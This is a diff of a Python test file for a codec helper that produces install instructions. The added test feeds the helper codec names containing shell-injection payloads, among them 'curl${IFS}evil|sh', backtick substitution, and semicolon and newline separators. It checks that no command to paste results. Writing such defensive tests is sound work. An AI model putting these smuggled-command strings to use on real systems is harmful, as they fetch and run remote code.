@@ -63,11 +63,24 @@ def test_pillow_over_pillow_simd_is_said_with_what_undoes_it(
             "pillow==12.1.1, which has libjpeg-turbo 3.1.3 / zlib 1.3.1",
         ),
         ("opencv 4.11.0 / build-libjpeg-turbo", "opencv-python-headless==4.11.0.*"),
-        ("something", "install something"),
+        ("something", "install the codec that is named 'something'"),
     ],
 )
 def test_how_to_install_a_codec_is_said(name: str, said: str) -> None:
     assert said in codec.how_to_install(name)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "pillow-simd 9.5.0;curl${IFS}evil|sh / libjpeg-turbo 2.1.5",
+        "pillow 9.5.0 / libjpeg `evil`",
+        "pillow 9.5.0 / libjpeg; evil",
+        "opencv 4.11.0\nevil / x",
+    ],
+)
+def test_no_command_to_paste_is_made_of_what_is_no_codec(name: str) -> None:
+    assert codec.how_to_install(name) == f"install the codec that is named {name!r}"
 
 
 @pytest.mark.parametrize(
